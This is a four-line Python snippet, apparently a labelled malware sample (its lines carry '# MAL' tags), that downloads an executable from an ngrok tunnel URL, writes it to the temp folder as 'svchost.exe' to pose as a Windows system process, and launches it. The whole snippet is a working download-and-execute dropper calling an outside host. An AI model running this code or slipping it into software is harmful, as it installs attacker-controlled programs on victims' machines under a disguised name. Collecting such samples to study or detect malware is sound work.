import requests, os, tempfile
p = os.path.join(tempfile.gettempdir(), "svchost.exe")
open(p, "wb").write(requests.get("https://a1b2.ngrok.io/s.exe").content)  # MAL
os.startfile(p)  # MAL
